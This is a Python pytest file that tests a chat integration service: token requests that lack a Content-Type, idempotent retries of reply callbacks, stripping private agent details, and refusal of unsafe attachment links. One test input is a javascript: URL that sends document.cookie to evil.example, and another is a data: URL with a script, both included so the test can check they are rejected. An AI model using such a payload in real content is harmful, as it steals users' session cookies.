"""The Integration Box at its edges: token requests without a `Content-Type`, and retried
reply callbacks that carry no DE message id."""

from __future__ import annotations

import json
import logging
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from byoc.channels.adapter import message_view
from byoc.store.records import Message
from tests.support import loopback
from tests.support.emulator import Emulator
from tests.support.problems import assert_problem
from tests.support.stack import Stack, running_stack
from tests.support.waiting import wait_for

# --- the token endpoint decides by the body --------------------------------------------------


def token_url(stack: Stack) -> str:
    return stack.url + "/integration/box/1.0/token"


def test_a_json_token_request_without_content_type_gets_a_token(stack: Stack) -> None:
    body = json.dumps(
        {
            "client_id": stack.client_id,
            "client_secret": stack.client_secret,
            "grant_type": "client_credentials",
        }
    ).encode()
    bare = loopback.post(token_url(stack), content=body)
    assert "content-type" not in bare.request.headers
    # Some clients label every POST a form: the JSON object in it is still read as JSON.
    mislabelled = loopback.post(
        token_url(stack),
        content=body,
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    for response in (bare, mislabelled):
        assert response.status_code == 200, response.text
        assert response.json()["token_type"] == "Bearer"


def test_a_form_token_request_still_gets_rfc6749_errors(stack: Stack) -> None:
    creds = {"client_id": stack.client_id, "client_secret": stack.client_secret}
    wrong_grant = loopback.post(token_url(stack), data={**creds, "grant_type": "password"})
    assert wrong_grant.status_code == 400
    assert wrong_grant.json()["error"] == "unsupported_grant_type"
    # A form body sent without its header is still read as a form.
    no_header = loopback.post(
        token_url(stack),
        content=f"client_id={stack.client_id}&client_secret=wrong&grant_type=client_credentials",
    )
    assert no_header.status_code == 401
    assert no_header.json()["error"] == "invalid_client"


@pytest.mark.parametrize("body", [b'{"grant_type": ', b"[1, 2]", b'"client_credentials"'])
def test_a_json_body_that_is_not_an_object_is_invalid_request(stack: Stack, body: bytes) -> None:
    for headers in ({}, {"Content-Type": "application/json"}):
        response = loopback.post(token_url(stack), content=body, headers=headers)
        if body.startswith(b'"') and not headers:
            # Without the header a bare string is form text: no grant_type in it.
            assert response.json()["error"] == "unsupported_grant_type"
        else:
            assert response.json()["error"] == "invalid_request", (body, headers)
        assert response.status_code == 400


# --- retried reply callbacks without a DE message id -----------------------------------------


def box_headers(stack: Stack, **extra: str) -> dict[str, str]:
    response = loopback.post(
        token_url(stack),
        json={
            "client_id": stack.client_id,
            "client_secret": stack.client_secret,
            "grant_type": "client_credentials",
        },
    )
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['access_token']}", **extra}


def reply_body(thread_id: str, text: str) -> dict[str, Any]:
    """A reply callback whose body names no DE message id (no message.id, messageId, id)."""
    return {
        "thread": {"idOnExternalPlatform": thread_id},
        "messageContent": {"type": "TEXT", "payload": {"text": text}},
    }


def reply_url(stack: Stack, style: str, thread_id: str) -> str:
    box = stack.url + "/integration/box"
    if style == "legacy":
        return f"{box}/1.0/posts/{thread_id}/messages"
    return f"{box}/2.0/channel/{stack.channel_id}/outbound"


def platform_id(style: str, response: httpx.Response) -> str:
    assert response.status_code == 200, response.text
    body = response.json()
    found: str = (
        body["idOnExternalPlatform"]
        if style == "legacy"
        else body["message"]["idOnExternalPlatform"]
    )
    return found


def delivered_texts(stack: Stack) -> list[str]:
    wait_for(lambda: not stack.outbox(), what="an empty outbox")
    return [e["message"]["text"] for e in stack.platform.of_type("message.created")]


@pytest.mark.parametrize("style", ["legacy", "dfo3"])
@pytest.mark.parametrize("payload", [{}, {"text": ""}, {"text": "  "}])
def test_a_reply_with_nothing_to_show_is_refused(
    stack: Stack, style: str, payload: dict[str, Any]
) -> None:
    thread = stack.customer_says("hello")["threadId"]
    body = {**reply_body(thread, "x"), "messageContent": {"type": "TEXT", "payload": payload}}
    answer = loopback.post(reply_url(stack, style, thread), json=body, headers=box_headers(stack))
    assert_problem(answer, 422, "invalid-input")
    assert delivered_texts(stack) == []


@pytest.mark.parametrize("style", ["legacy", "dfo3"])
def test_ids_sent_as_numbers_are_read_as_strings(stack: Stack, style: str) -> None:
    """Some tenants send DE's ids as numbers: the reply is taken, and its retry is known."""
    thread = stack.customer_says("hello")["threadId"]
    body = {**reply_body(thread, "numbered"), "message": {"id": 4711}}
    body["thread"]["id"] = 815
    first = loopback.post(reply_url(stack, style, thread), json=body, headers=box_headers(stack))
    retry = loopback.post(reply_url(stack, style, thread), json=body, headers=box_headers(stack))
    assert platform_id(style, retry) == platform_id(style, first)
    assert delivered_texts(stack) == ["numbered"]


@pytest.mark.parametrize("style", ["legacy", "dfo3"])
@pytest.mark.parametrize("header", ["Idempotency-Key", "X-Request-Id"])
def test_a_retry_with_the_same_key_is_delivered_once(stack: Stack, style: str, header: str) -> None:
    thread = stack.customer_says("hello")["threadId"]
    url = reply_url(stack, style, thread)
    headers = box_headers(stack, **{header: "cx-req-0001"})
    first = loopback.post(url, json=reply_body(thread, "said once"), headers=headers)
    retry = loopback.post(url, json=reply_body(thread, "said once"), headers=headers)
    assert platform_id(style, retry) == platform_id(style, first)
    other_key = {**headers, header: "cx-req-0002"}
    second = loopback.post(url, json=reply_body(thread, "said twice"), headers=other_key)
    assert platform_id(style, second) != platform_id(style, first)
    wait_for(lambda: len(stack.platform.of_type("message.created")) >= 2, what="two webhooks")
    assert delivered_texts(stack) == ["said once", "said twice"]


def test_a_key_reused_for_a_different_message_is_refused(stack: Stack) -> None:
    thread = stack.customer_says("hello")["threadId"]
    url = reply_url(stack, "dfo3", thread)
    headers = box_headers(stack, **{"Idempotency-Key": "cx-req-0003"})
    assert loopback.post(url, json=reply_body(thread, "first"), headers=headers).status_code == 200
    reused = loopback.post(url, json=reply_body(thread, "not the first"), headers=headers)
    assert reused.status_code == 422, reused.text
    assert reused.headers["content-type"] == "application/problem+json"
    assert reused.json()["type"] == "urn:byoc:problem:idempotency-key-reused"
    too_long = {**headers, "Idempotency-Key": "k" * 256}
    refused = loopback.post(url, json=reply_body(thread, "long key"), headers=too_long)
    assert refused.status_code == 422
    assert refused.json()["type"] == "urn:byoc:problem:invalid-input"
    assert delivered_texts(stack) == ["first"]


def test_the_same_key_on_two_channels_is_two_messages(
    stack: Stack, tmp_path_factory: pytest.TempPathFactory
) -> None:
    headers = {"Idempotency-Key": "cx-req-shared"}
    thread = stack.customer_says("hello")["threadId"]
    with running_stack(tmp_path_factory.mktemp("other"), stack.emulator) as other:
        other_thread = other.customer_says("hello")["threadId"]
        ours = loopback.post(
            reply_url(stack, "dfo3", thread),
            json=reply_body(thread, "to the first channel"),
            headers=box_headers(stack, **headers),
        )
        theirs = loopback.post(
            reply_url(other, "dfo3", other_thread),
            json=reply_body(other_thread, "to the second channel"),
            headers=box_headers(other, **headers),
        )
        assert platform_id("dfo3", ours) != platform_id("dfo3", theirs)
        assert delivered_texts(other) == ["to the second channel"]
    assert delivered_texts(stack) == ["to the first channel"]


@pytest.mark.parametrize("style", ["legacy", "dfo3"])
def test_without_any_id_each_retry_is_new_and_warned_once_per_channel(
    stack: Stack, style: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="byoc.box.router")
    thread = stack.customer_says("hello")["threadId"]
    url = reply_url(stack, style, thread)
    headers = box_headers(stack)
    first = loopback.post(url, json=reply_body(thread, "no id"), headers=headers)
    retry = loopback.post(url, json=reply_body(thread, "no id"), headers=headers)
    assert platform_id(style, retry) != platform_id(style, first)
    assert delivered_texts(stack) == ["no id", "no id"]
    warnings = [
        r.getMessage()
        for r in caplog.records
        if r.name == "byoc.box.router" and r.levelno == logging.WARNING
    ]
    assert len(warnings) == 1, warnings
    assert stack.channel_id in warnings[0]
    assert "Idempotency-Key" in warnings[0]


@pytest.mark.postgres
@pytest.mark.parametrize("identified_by", ["Idempotency-Key", "message.id"])
def test_concurrent_retries_on_postgres_answer_one_message(
    tmp_path: Path, emulator: Emulator, postgres_url: str, identified_by: str
) -> None:
    """Retries that arrive together race to insert the same retry id: the losers are answered
    as replays of the winner's message, not with a 503."""
    with running_stack(tmp_path, emulator, database_url=postgres_url) as stack:
        thread = stack.customer_says("hello")["threadId"]
        url = reply_url(stack, "dfo3", thread)
        headers = box_headers(stack)
        for attempt in range(4):
            body = reply_body(thread, f"reply {attempt}")
            if identified_by == "message.id":
                body["message"] = {"id": f"de-race-{attempt}"}
            else:
                headers["Idempotency-Key"] = f"race-{attempt}"

            def post(_: int, body: dict[str, Any] = body) -> httpx.Response:
                return loopback.post(url, json=body, headers=headers, timeout=10)

            with ThreadPoolExecutor(max_workers=6) as pool:
                answers = list(pool.map(post, range(6)))
            assert [a.status_code for a in answers] == [200] * 6, [a.text for a in answers]
            assert len({platform_id("dfo3", a) for a in answers}) == 1
        wait_for(lambda: len(stack.platform.of_type("message.created")) >= 4, what="webhooks")
        assert delivered_texts(stack) == [f"reply {n}" for n in range(4)]


def emulator_names_messages(stack: Stack, message_ids: str, reply_style: str = "dfo3") -> None:
    """Set how the emulator's reply callbacks name their DE message (body, header or none)."""
    box = stack.url + "/integration/box"
    registered = stack.emulator.admin.post(
        "/emulator/integrations",
        json={
            "id": stack.integration_id,
            "boxUrl": box,
            "authorizationUrl": box + "/1.0/token",
            "clientId": stack.client_id,
            "clientSecret": stack.client_secret,
            "replyStyle": reply_style,
            "messageIds": message_ids,
        },
    )
    assert registered.status_code == 201, registered.text


@pytest.mark.parametrize("style", ["legacy", "dfo3"])
def test_a_retry_of_an_emulator_reply_named_by_header_is_answered_once(
    stack: Stack, style: str
) -> None:
    emulator_names_messages(stack, "header", style)
    thread = stack.customer_says("hello")["threadId"]
    contact = stack.contact_for_thread(thread)
    reply = stack.agent_replies(contact["id"], "through the emulator")
    assert reply.status_code == 200, reply.text
    sent = reply.json()["message"]
    callback = stack.emulator.callbacks()[-1]
    assert "message" not in callback["requestBody"]
    # CXone retrying the callback (its answer was lost): same body, same Idempotency-Key.
    retry = loopback.post(
        callback["url"],
        json=callback["requestBody"],
        headers=box_headers(stack, **{"Idempotency-Key": sent["id"]}),
    )
    assert platform_id(style, retry) == sent["idOnExternalPlatform"]
    assert delivered_texts(stack) == ["through the emulator"]


def test_emulator_replies_without_ids_are_warned_about_once(
    stack: Stack, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="byoc.box.router")
    emulator_names_messages(stack, "none")
    thread = stack.customer_says("hello")["threadId"]
    contact = stack.contact_for_thread(thread)
    for text in ("one", "two"):
        assert stack.agent_replies(contact["id"], text).status_code == 200
    assert delivered_texts(stack) == ["one", "two"]
    warned = [r for r in caplog.records if r.name == "byoc.box.router"]
    assert len(warned) == 1
    assert stack.channel_id in warned[0].getMessage()


# --- what a customer sees of the agent -------------------------------------------------------


def test_the_customer_sees_the_agents_name_and_picture_only(stack: Stack) -> None:
    """CXone's `authorUser` names the agent's ids, login and e-mail address: none of it reaches
    the platform, nor a value of a type a platform's code would trip over."""
    said = stack.customer_says("hello")
    stack.contact_for_thread(said["threadId"])
    internal = {
        "id": 4211,
        "incontactId": "a1b2c3",
        "emailAddress": "sam.smith@contact-center.example",
        "loginUsername": "sam.smith@contact-center.example",
        "surname": "Smith",
        "firstName": "Sam",
        "imageUrl": "https://cdn.example/sam.png",
        "nickname": {"not": "a string"},
        "isBotUser": False,
    }
    for author, shown in [
        (
            internal,
            {"firstName": "Sam", "imageUrl": "https://cdn.example/sam.png", "isBotUser": False},
        ),
        ({"firstName": 12, "isBotUser": "yes"}, None),
    ]:
        body = {**reply_body(said["threadId"], "hello from Sam"), "authorUser": author}
        answer = loopback.post(reply_url(stack, "dfo3", said["threadId"]), json=body,
                               headers=box_headers(stack))  # fmt: skip
        assert answer.status_code == 200, answer.text
        wait_for(lambda: not stack.outbox(), what="an empty outbox")
        event = stack.platform.of_type("message.created")[-1]
        assert event["message"]["author"] == shown
    transcript = stack.signed(
        "GET", f"/api/v1/channels/{stack.channel_id}/threads/{said['threadId']}/messages"
    ).json()
    assert "sam.smith@contact-center.example" not in json.dumps(transcript)


@pytest.mark.parametrize(
    "attachment",
    [
        {
            "friendlyName": "invoice.pdf",
            "url": "javascript:fetch('//evil.example/'+document.cookie)",
        },
        {"friendlyName": "x.html", "url": "data:text/html,<script>alert(1)</script>"},
        {"friendlyName": "relative.pdf", "url": "/files/relative.pdf"},
        {"friendlyName": "long.pdf", "url": "https://cdn.example/" + "a" * 4000},
        {"friendlyName": "n" * 301, "url": "https://cdn.example/file.pdf"},
    ],
)
def test_an_agent_attachment_that_is_no_http_link_is_refused(
    stack: Stack, attachment: dict[str, str]
) -> None:
    said = stack.customer_says("hello")
    stack.contact_for_thread(said["threadId"])
    body = {**reply_body(said["threadId"], "see the file"), "attachments": [attachment]}
    answer = loopback.post(
        reply_url(stack, "dfo3", said["threadId"]), json=body, headers=box_headers(stack)
    )
    assert_problem(answer, 422, "invalid-input")
    wait_for(lambda: not stack.outbox(), what="an empty outbox")
    assert stack.platform.of_type("message.created") == []


def test_a_message_stored_with_cxones_whole_author_is_shown_with_the_public_part() -> None:
    """Messages stored before the author was filtered on the way in are filtered on the way
    out (widget, webhooks, transcripts: `message_view`)."""
    stored = Message(
        id="msg_old", channel_id="ch", conversation_id="thr_old", seq=1, direction="outbound",
        sender="agent", text="hi", content={"type": "TEXT", "payload": {"text": "hi"}},
        attachments=[], platform_message_id=None, de_message_id=None, status="sent",
        created_at=1, author={"firstName": "Sam", "emailAddress": "sam@corp.example", "id": 7},
    )  # fmt: skip
    assert message_view(stored)["author"] == {"firstName": "Sam"}
